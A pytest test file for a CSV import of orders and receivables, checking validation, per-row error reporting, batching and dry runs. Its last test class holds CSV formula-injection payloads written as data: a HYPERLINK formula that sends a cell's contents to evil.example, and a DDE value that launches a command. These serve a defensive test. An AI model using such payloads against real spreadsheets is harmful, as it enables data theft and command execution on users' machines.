"""claimbridge orders import: checked completely first, precise per-row errors, all or nothing, dry run."""

from __future__ import annotations

import csv
import dataclasses
import io
import random

import pytest
import sqlalchemy as sa
from marshmallow import ValidationError

from backend.orders import csv_import, services
from backend.orders.csv_import import COLUMNS, HeaderError, _CellLoader, _payload, parse_rows
from backend.orders.push import shop_order_from_push
from backend.orders.schemas import OrderPushSchema
from backend.orders.services import IMPORT_BATCH, upsert_order
from backend.receivables import ledger
from backend.receivables.models import Receivable, ReceivableEvent
from tests.orders.support import cli_runner

HEADER = "external_id,number,total,currency,ordered_at,invoice_date,due_date,paid_amount,state,email,first_name,last_name,street,house_number,postal_code,city,country"
GOOD_ROWS = [
    "R-1,RE-1,119.00,EUR,2024-05-01,,,,open,erika@example.com,Erika,Mustermann,Musterstraße,12a,10115,Berlin,DE",
    'R-2,RE-2,"50.00",EUR,2024-05-02T10:00:00+02:00,2024-05-03,2024-06-03,20.00,partially_paid,max@example.com,Max,"Muster, jun.",Hauptstr.,1,80331,München,DE',
]


def write(tmp_path, lines, name="open_items.csv", encoding="utf-8"):
    path = tmp_path / name
    path.write_text("\n".join(lines) + "\n", encoding=encoding)
    return path


def receivables(db):
    return db.session.scalars(sa.select(Receivable).order_by(Receivable.external_id)).all()


@pytest.fixture
def run(app):
    return cli_runner(app)


class TestImport:
    def test_imports_every_row_and_reports_counts(self, run, db, merchant, tmp_path):
        path = write(tmp_path, [HEADER, *GOOD_ROWS])
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 0, result.output
        assert "2 rows imported" in result.output
        assert "2 created, 0 updated, 0 unchanged" in result.output
        first, second = receivables(db)
        assert (first.state, str(first.total_amount), str(first.invoice_date), str(first.due_date)) == (
            "open",
            "119.00",
            "2024-05-01",
            "2024-05-15",
        )
        assert (second.state, str(second.paid_amount), str(second.due_date)) == (
            "partially_paid",
            "20.00",
            "2024-06-03",
        )
        assert second.buyer["last_name"] == "Muster, jun."
        assert first.billing_address == {
            "first_name": "Erika",
            "last_name": "Mustermann",
            "street": "Musterstraße",
            "house_number": "12a",
            "postal_code": "10115",
            "city": "Berlin",
            "country": "DE",
        }

        assert events(db) == [(first.id, "created"), (second.id, "created"), (second.id, "payment")]

        again = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert "0 created, 0 updated, 2 unchanged" in again.output
        assert len(receivables(db)) == 2

    def test_debtor_kind_vat_id_and_the_invoice_notice_are_columns(self, run, db, merchant, tmp_path):
        header = "external_id,number,total,currency,ordered_at,country,company,debtor_kind,vat_id,invoice_has_default_notice"
        rows = [
            "L-1,RE-1,10.00,EUR,2024-05-01,DE,Hobbykeller,,,true",  # company only: a consumer (§13 BGB)
            "L-2,RE-2,10.00,EUR,2024-05-01,DE,Muster GmbH,,DE136695976,",  # VAT id: a business
            "L-3,RE-3,10.00,EUR,2024-05-01,DE,,business,,false",
            "L-4,RE-4,10.00,EUR,2024-05-01,DE,,,keine,",  # no valid VAT id: a consumer
        ]
        result = run(
            "orders", "import", str(write(tmp_path, [header, *rows])), "--merchant", str(merchant.id)
        )
        assert result.exit_code == 0, result.output
        assert [(r.debtor_kind, r.invoice_has_default_notice) for r in receivables(db)] == [
            ("consumer", True),
            ("business", False),
            ("business", False),
            ("consumer", False),
        ]

    def test_semicolons_and_a_bom_from_spreadsheet_exports(self, run, db, merchant, tmp_path):
        lines = [line.replace(",", ";") for line in (HEADER, GOOD_ROWS[0])]
        path = write(tmp_path, lines, encoding="utf-8-sig")
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 0, result.output
        assert [r.external_id for r in receivables(db)] == ["R-1"]

    def test_bad_rows_are_reported_precisely_and_nothing_is_imported(self, run, db, merchant, tmp_path):
        path = write(
            tmp_path,
            [
                HEADER,
                GOOD_ROWS[0],
                "R-2,RE-2,12;50,EUR,2024-05-01,,,,open,a@example.com,A,B,S,1,10115,Berlin,DE",
                "R-3,RE-3,10.00,EUR,2024-02-30,,,,open,nope,A,B,S,1,10115,Berlin,Deutschland",
                "R-1,RE-4,10.00,EUR,2024-05-01,,,,open,a@example.com,A,B,S,1,10115,Berlin,DE",
                "R-5,RE-5,10.00,EUR",
            ],
        )
        errors_file = tmp_path / "errors.csv"
        result = run(
            "orders", "import", str(path), "--merchant", str(merchant.id), "--errors", str(errors_file)
        )
        assert result.exit_code == 1
        assert "nothing was imported" in result.output
        assert "row 3, column total: Not an amount" in result.output
        with errors_file.open(newline="", encoding="utf-8") as handle:
            reported = [(row["row"], row["column"]) for row in csv.DictReader(handle)]
        assert sorted(reported) == sorted(
            [
                ("3", "total"),
                ("4", "ordered_at"),
                ("4", "email"),
                ("4", "country"),
                ("5", "external_id"),
                ("6", ""),
            ]
        )
        assert receivables(db) == []

    def test_dates_near_year_9999_are_bad_cells_not_a_crash(self, run, db, merchant, tmp_path):
        path = write(
            tmp_path,
            [
                HEADER,
                "R-1,RE-1,10.00,EUR,9999-12-31,,,,open,a@example.com,A,B,S,1,10115,Berlin,DE",
                "R-2,RE-2,10.00,EUR,2024-05-01,9999-12-25,,,open,a@example.com,A,B,S,1,10115,Berlin,DE",
            ],
        )
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1 and "nothing was imported" in result.output
        assert "row 2, column ordered_at: Must not be after 2199-12-31." in result.output
        assert "row 3, column invoice_date: Must not be after 2199-12-31." in result.output
        assert receivables(db) == []

    @pytest.mark.parametrize("position", [IMPORT_BATCH + 5, IMPORT_BATCH + 2])
    def test_a_bad_row_after_stored_batches_still_imports_nothing(
        self, run, db, merchant, tmp_path, position
    ):
        """The first batch was stored when the bad row comes: at the end, or amid a batch with good rows after it."""
        good = [
            f"N-{n},RE-{n},10.00,EUR,2024-05-01,,,,open,k{n}@example.com,A,B,S,1,10115,Berlin,DE"
            for n in range(IMPORT_BATCH + 5)
        ]
        bad = "N-X,RE-X,10.00,EUR,2024-05-01,,,,open,kx@example.com,A,B,S,1,10115,Berlin,Atlantis"
        path = write(tmp_path, [HEADER, *good[:position], bad, *good[position:]])
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1
        assert f"row {position + 2}, column country" in result.output
        assert f"1 of {IMPORT_BATCH + 6} rows have errors" in result.output
        assert receivables(db) == []
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ReceivableEvent)) == 0

    def test_rows_of_many_batches_are_each_stored_once(self, run, db, merchant, tmp_path, monkeypatch):
        """A batch is written while the next one is checked: new, changed and unchanged rows in every batch."""
        monkeypatch.setattr(services, "IMPORT_BATCH", 3)
        rows = [
            f"B-{n},RE-{n},{n}.00,EUR,2024-05-01,,,,open,b{n}@example.com,A,B,S,1,10115,Berlin,DE"
            for n in range(1, 15)
        ]
        first = write(tmp_path, [HEADER, *rows[:10]], "first.csv")
        result = run("orders", "import", str(first), "--merchant", str(merchant.id))
        assert "10 created, 0 updated, 0 unchanged" in result.output

        changed = [row.replace(",RE-", ",RN-") if n % 3 == 0 else row for n, row in enumerate(rows, start=1)]
        second = write(tmp_path, [HEADER, *changed], "second.csv")
        result = run("orders", "import", str(second), "--merchant", str(merchant.id))
        assert "4 created, 3 updated, 7 unchanged" in result.output
        stored = receivables(db)
        assert sorted((r.external_id, r.number) for r in stored) == sorted(
            (f"B-{n}", f"RN-{n}" if n % 3 == 0 else f"RE-{n}") for n in range(1, 15)
        )
        assert len({r.payment_reference for r in stored if r.payment_reference}) == 14
        kinds = [kind for _, kind in events(db)]
        assert (kinds.count("created"), kinds.count("synced"), len(kinds)) == (14, 3, 17)

    def test_only_receivables_found_stored_are_read_whole(self, run, db, merchant, tmp_path, monkeypatch):
        """One lookup per batch finds the stored receivables and their digests; only the changed ones are read
        whole (a batch of new orders takes no second lookup), and one stored without a digest is updated."""
        monkeypatch.setattr(services, "IMPORT_BATCH", 3)
        rows = [
            f"L-{n},RE-{n},{n}.00,EUR,2024-05-01,,,,open,l{n}@example.com,A,B,S,1,10115,Berlin,DE"
            for n in range(1, 8)
        ]
        read_whole = []
        stored_receivables = services._stored_receivables

        def recording(connection, external_ids):
            read_whole.extend(external_ids)
            return stored_receivables(connection, external_ids)

        monkeypatch.setattr(services, "_stored_receivables", recording)
        first = write(tmp_path, [HEADER, *rows[:4]], "first.csv")
        assert "4 created" in run("orders", "import", str(first), "--merchant", str(merchant.id)).output
        assert read_whole == []

        db.session.execute(
            sa.update(Receivable).where(Receivable.external_id == "L-2").values(import_digest=None)
        )
        db.session.commit()
        changed = [row.replace(",RE-3,", ",RN-3,") for row in rows]
        second = write(tmp_path, [HEADER, *changed], "second.csv")
        result = run("orders", "import", str(second), "--merchant", str(merchant.id))
        assert "3 created, 1 updated, 3 unchanged" in result.output
        assert sorted(read_whole) == ["L-2", "L-3"]
        assert [(r.external_id, r.number) for r in receivables(db)][1:3] == [("L-2", "RE-2"), ("L-3", "RN-3")]

    def test_a_receivable_stored_meanwhile_is_updated_from_its_row(
        self, run, db, merchant, tmp_path, monkeypatch
    ):
        """Batches after the first are checked in a child process, whose new orders come without their load:
        a row whose receivable another writer stored just before the batch's insert is loaded again."""
        monkeypatch.setattr(services, "IMPORT_BATCH", 2)
        rows = [
            f"M-{n},RE-{n},{n}.00,EUR,2024-05-01,,,,open,m{n}@example.com,A,B,S,1,10115,Berlin,DE"
            for n in range(1, 6)
        ]
        create = ledger.create_receivables

        def another_writer_first(new, source, **kwargs):
            for item in new:
                if item.values["external_id"] == "M-3":
                    create(
                        [dataclasses.replace(item, values={**item.values, "number": "RE-other"})],
                        source,
                        **kwargs,
                    )
            return create(new, source, **kwargs)

        monkeypatch.setattr(ledger, "create_receivables", another_writer_first)
        result = run(
            "orders", "import", str(write(tmp_path, [HEADER, *rows])), "--merchant", str(merchant.id)
        )
        assert result.exit_code == 0, result.output
        assert "4 created, 1 updated, 0 unchanged" in result.output
        assert [(r.external_id, r.number) for r in receivables(db)] == [
            (f"M-{n}", f"RE-{n}") for n in range(1, 6)
        ]

    @pytest.mark.parametrize("dry_run", [False, True])
    def test_a_first_batch_of_unreadable_rows_reports_every_bad_row(
        self, run, db, merchant, tmp_path, monkeypatch, dry_run
    ):
        """The child checking later batches is given the header, not the columns of a first batch's row."""
        monkeypatch.setattr(services, "IMPORT_BATCH", 2)
        good = [
            f"U-{n},RE-{n},10.00,EUR,2024-05-01,,,,open,u{n}@example.com,A,B,S,1,10115,Berlin,DE"
            for n in range(1, 4)
        ]
        bad = ["U-X,RE-X,10.00,EUR", "U-Y,RE-Y"]
        args = ["--dry-run"] if dry_run else []
        path = write(tmp_path, [HEADER, *bad, *good[:2], "U-Z,RE-Z,10.00", good[2]])
        result = run("orders", "import", str(path), "--merchant", str(merchant.id), *args)
        assert result.exit_code == 1
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert "checking rows failed" not in result.output
        assert "row 2, column -: expected 17 fields, found 4" in result.output
        assert "row 3, column -: expected 17 fields, found 2" in result.output
        assert "row 6, column -: expected 17 fields, found 3" in result.output
        assert "3 of 6 rows have errors (3 in all); nothing was imported" in result.output
        assert receivables(db) == []

    def test_rows_load_as_the_push_schema_loads_them(self):
        loader = parse_rows([HEADER, *GOOD_ROWS, GOOD_ROWS[0].replace("R-1,", "R-3,")])
        schema = OrderPushSchema()
        for parsed in loader:
            assert parsed.errors == []
            line = next(row for row in GOOD_ROWS if row.split(",")[1] == parsed.data["number"])
            cells = next(csv.reader([line]))
            payload = _payload(dict(zip(HEADER.split(","), cells, strict=True)))
            assert parsed.data == schema.load(payload)

    def test_header_problems_stop_before_any_row(self, run, db, merchant, tmp_path):
        path = write(
            tmp_path,
            ["external_id,number,totl,currency,ordered_at,country", "R-1,RE-1,1.00,EUR,2024-05-01,DE"],
        )
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1
        assert "row 1, column totl: unknown column" in result.output
        assert "row 1, column total: required column is missing" in result.output
        assert receivables(db) == []

    def test_dry_run_checks_and_counts_but_stores_nothing(self, run, db, merchant, tmp_path):
        run(
            "orders",
            "import",
            str(write(tmp_path, [HEADER, GOOD_ROWS[0]], "first.csv")),
            "--merchant",
            str(merchant.id),
        )
        path = write(tmp_path, [HEADER, *GOOD_ROWS], "second.csv")
        result = run("orders", "import", str(path), "--merchant", str(merchant.id), "--dry-run")
        assert result.exit_code == 0, result.output
        assert "2 rows are valid: 1 new, 1 already known" in result.output
        assert [r.external_id for r in receivables(db)] == ["R-1"]

    def test_unknown_merchant_or_foreign_connection_is_refused(self, run, create_merchant, tmp_path):
        path = write(tmp_path, [HEADER, GOOD_ROWS[0]])
        assert "merchant 999 does not exist" in run("orders", "import", str(path), "--merchant", "999").output
        merchant = create_merchant("Ohne Verbindung")
        result = run("orders", "import", str(path), "--merchant", str(merchant.id), "--connection", "999")
        assert (result.exit_code, "connection 999 not found" in result.output) == (1, True)


class TestPlanning:
    def test_each_statement_is_planned_for_its_own_batch_on_postgresql(
        self, run, db, merchant, tmp_path, monkeypatch
    ):
        """The import grows the table inside one transaction: no statement is prepared, so no plan cached while
        the table looked empty is reused; the server's own plan cache (foreign-key checks) keeps its mode."""
        postgresql = db.engine.dialect.name == "postgresql"
        seen = []
        stored_digests = services._stored_digests

        def recording(connection, rows):
            if postgresql:
                raw = db.session.connection().connection.dbapi_connection
                seen.append((raw, raw.prepare_threshold, db.session.scalar(sa.text("SHOW plan_cache_mode"))))
            return stored_digests(connection, rows)

        monkeypatch.setattr(services, "_stored_digests", recording)
        result = run(
            "orders", "import", str(write(tmp_path, [HEADER, *GOOD_ROWS])), "--merchant", str(merchant.id)
        )
        assert result.exit_code == 0, result.output
        assert [(threshold, mode) for _, threshold, mode in seen] == ([(None, "auto")] if postgresql else [])
        if postgresql:  # the connection prepares statements again once the import is done (psycopg's default)
            assert seen[0][0].prepare_threshold == 5


def events(db):
    return db.session.execute(
        sa.select(ReceivableEvent.receivable_id, ReceivableEvent.kind).order_by(ReceivableEvent.id)
    ).all()


class TestUnchangedReimport:
    """A row identical to the one its receivable was last imported from is skipped before validation."""

    @pytest.fixture
    def imported(self, run, db, merchant, tmp_path):
        path = write(tmp_path, [HEADER, *GOOD_ROWS], "first.csv")
        assert run("orders", "import", str(path), "--merchant", str(merchant.id)).exit_code == 0
        return path

    @pytest.fixture
    def rows_not_loaded(self, monkeypatch):
        def refuse(self, payload):
            raise AssertionError(f"row {payload['number']} was validated again")

        monkeypatch.setattr(csv_import._CellLoader, "load", refuse)

    def test_identical_cells_are_not_read_again(self, run, db, merchant, tmp_path, imported, rows_not_loaded):
        before = events(db)
        # Another column order and quoting: the same columns with the same cells.
        header = HEADER.split(",")
        lines = [",".join([header[-1], *header[:-1]])]
        for row in GOOD_ROWS:
            cells = next(csv.reader([row]))
            lines.append(",".join(f'"{cell}"' for cell in [cells[-1], *cells[:-1]]))
        result = run("orders", "import", str(write(tmp_path, lines)), "--merchant", str(merchant.id))
        assert result.exit_code == 0, result.output
        assert "0 created, 0 updated, 2 unchanged" in result.output
        assert events(db) == before

    def test_a_changed_row_is_applied_and_then_skipped(self, run, db, merchant, tmp_path, imported):
        changed = write(tmp_path, [HEADER, GOOD_ROWS[0].replace("119.00", "129.00"), GOOD_ROWS[1]])
        result = run("orders", "import", str(changed), "--merchant", str(merchant.id))
        assert "0 created, 1 updated, 1 unchanged" in result.output
        first, _ = receivables(db)
        assert str(first.total_amount) == "129.00"
        assert events(db)[-1] == (first.id, "synced")

        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(csv_import._CellLoader, "load", lambda self, payload: pytest.fail("validated"))
            again = run("orders", "import", str(changed), "--merchant", str(merchant.id))
        assert "0 created, 0 updated, 2 unchanged" in again.output

    def test_a_receivable_written_since_is_read_again(self, run, db, merchant, tmp_path, imported):
        first, _ = receivables(db)
        (parsed,) = parse_rows([HEADER, GOOD_ROWS[0]])
        order = shop_order_from_push("R-1", {**parsed.data, "number": "RE-1-korrigiert"})
        upsert_order(first.connection, order, actor="test", track_any_method=True)
        db.session.commit()

        result = run("orders", "import", str(imported), "--merchant", str(merchant.id))
        assert "0 created, 1 updated, 1 unchanged" in result.output
        assert receivables(db)[0].number == "RE-1"

    def test_other_claim_settings_read_every_row_again(self, run, db, merchant, tmp_path, imported):
        merchant.settings = {**(merchant.settings or {}), "claims": {"sells_to_businesses_only": True}}
        db.session.commit()
        result = run("orders", "import", str(imported), "--merchant", str(merchant.id))
        assert "0 created, 2 updated, 0 unchanged" in result.output
        assert [r.debtor_kind for r in receivables(db)] == ["business", "business"]

    def test_a_known_row_repeated_in_the_file_is_still_an_error(self, run, db, merchant, tmp_path, imported):
        path = write(tmp_path, [HEADER, *GOOD_ROWS, GOOD_ROWS[0]])
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1
        assert "row 4, column external_id: 'R-1' already appears in row 2" in result.output


# Per kind of column: cells that pass, and cells that do not (or not with every other cell).
SAMPLE_CELLS = {
    "total": (
        ["119.00", "0.01", "1", " 7.5 ", "999999999999.99"],
        ["12;50", "-5.00", "1e3", "1.001", "0.00"],
    ),
    "paid_amount": (["", "0.00", "20.00", "59.50"], ["200.00", "abc"]),
    "currency": (["EUR", "eur", "Chf"], ["EU", "EURO", "€€€", ""]),
    "ordered_at": (
        ["2024-05-01", "2024-05-01T10:00:00+02:00", "2024-05-01T10:00:00", "2024-03-31T01:30:00Z"],
        ["2024-02-30", "morgen", ""],
    ),
    "shipped_at": (["", "2024-05-03", "2024-05-03T08:00:00Z"], ["2024-13-01", "heute"]),
    "invoice_date": (["", "2024-05-01", "2024-05-02"], ["2024-04-01", "01.05.2024"]),
    "due_date": (["", "2024-05-15", "2024-06-30"], ["2024-04-01", "2024-06-31"]),
    "state": (["", "open", "paid", "cancelled", "disputed"], ["partially_paid", "offen"]),
    "debtor_kind": (["", "consumer", "business"], ["other"]),
    "invoice_has_default_notice": (["", "true", "false", "1", "0"], ["ja"]),
    "email": (["", "erika@example.com", "A.B+tag@Example.COM"], ["nope", "a@b", "x" * 300 + "@example.com"]),
    "country": (["DE", "de", "AT", "at"], ["Deutschland", "XX", ""]),
    "number": (["RE-1", "r 2"], ["", "N" * 101]),
    "postal_code": (["10115", "A-1010", ""], ["1" * 21]),
}
FREE_TEXT = (["Erika", "", "Müller-Lüdenscheidt"], ["x" * 201])


def generated_rows(count, seed=19):
    """Rows of mostly valid cells (so that many whole rows are valid), else invalid samples or any text."""
    rng = random.Random(seed)
    alphabet = "aZ09 .,;:-+@€äß\u00a0\t\x00\u202e\ud800\"'"
    for _ in range(count):
        row = {}
        for column in COLUMNS:
            valid, invalid = SAMPLE_CELLS.get(column, FREE_TEXT)
            dice = rng.randrange(100)
            if dice < 95:
                row[column] = rng.choice(valid)
            elif dice < 99:
                row[column] = rng.choice(invalid)
            else:
                row[column] = "".join(rng.choices(alphabet, k=rng.randrange(13)))
        yield row


class TestCellLoader:
    def test_loads_what_the_push_schema_loads_and_fails_as_it_fails(self):
        loader = _CellLoader()  # one for all rows, so its per-cell caches are exercised across rows
        schema = OrderPushSchema()
        loaded = 0
        for row in generated_rows(3000):
            payload = _payload({name: value.strip() for name, value in row.items()})
            try:
                expected = schema.load(payload)
            except ValidationError as error:
                with pytest.raises(ValidationError) as raised:
                    loader.load(payload)
                assert raised.value.messages == error.messages
            else:
                assert loader.load(payload) == expected
                loaded += 1
        assert loaded > 300  # the comparison covered many valid rows, not only errors


class TestParseRows:
    def test_undecodable_bytes_are_reported_in_their_cell(self):
        from backend.orders.csv_import import read_lines

        row = "R-1,RE-1,1.00,EUR,2024-05-01,,,,open,a@example.com,A,B,Hauptstr.,1,10115,Berl\xefn,DE"
        raw = f"{HEADER}\n{row}\n".encode("latin-1")
        (row,) = parse_rows(read_lines(io.BytesIO(raw)))
        assert [(e.row, e.column, e.message) for e in row.errors] == [(2, "city", "not valid UTF-8 text")]

    def test_lines_keep_their_endings_and_every_byte_is_reported(self):
        from backend.orders.csv_import import read_lines

        raw = '\ufeffexternal_id,city\r\nR-1,"Ber\r\nlin"\r\nR-2,K\u00f6ln\nR-3,\xef'.encode()
        reported: list[int] = []
        lines = list(read_lines(io.BytesIO(raw), reported.append))
        assert lines == ["external_id,city\r\n", 'R-1,"Ber\r\n', 'lin"\r\n', "R-2,K\u00f6ln\n", "R-3,\xef"]
        assert sum(reported) == len(raw)

    def test_empty_file_has_no_header(self):
        with pytest.raises(HeaderError, match="no header row"):
            list(parse_rows([]))


class TestHostileFiles:
    def test_a_field_over_the_csv_size_limit_is_a_row_error_not_a_traceback(
        self, run, db, merchant, tmp_path
    ):
        huge = (
            "R-2,RE-2,10.00,EUR,2024-05-01,,,,open,a@example.com,A," + "B" * 200_000 + ",S,1,10115,Berlin,DE"
        )
        path = write(tmp_path, [HEADER, GOOD_ROWS[0], huge])
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1
        assert "row 3" in result.output and "unreadable CSV" in result.output
        assert receivables(db) == []

    def test_control_characters_in_a_cell_are_a_row_error(self, run, db, merchant, tmp_path):
        path = write(
            tmp_path, [HEADER, GOOD_ROWS[0].replace("Erika,", "Eri\x00ka,").replace("Berlin", "Ber\u202elin")]
        )
        result = run("orders", "import", str(path), "--merchant", str(merchant.id))
        assert result.exit_code == 1
        assert "row 2, column first_name" in result.output and "row 2, column city" in result.output
        assert receivables(db) == []

    def test_errors_csv_never_holds_a_formula(self, run, merchant, tmp_path):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        row = GOOD_ROWS[0].replace("R-1,", "@SUM(1+1)*cmd|' /C calc'!A0,", 1)
        path = write(tmp_path, [HEADER + ',"' + formula.replace('"', '""') + '"', row + ",x"])
        errors_file = tmp_path / "errors.csv"
        run("orders", "import", str(path), "--merchant", str(merchant.id), "--errors", str(errors_file))
        with errors_file.open(newline="", encoding="utf-8") as handle:
            cells = [cell for line in csv.reader(handle) for cell in line]
        assert any(formula.lower() in cell for cell in cells)  # header names are read case-insensitively
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
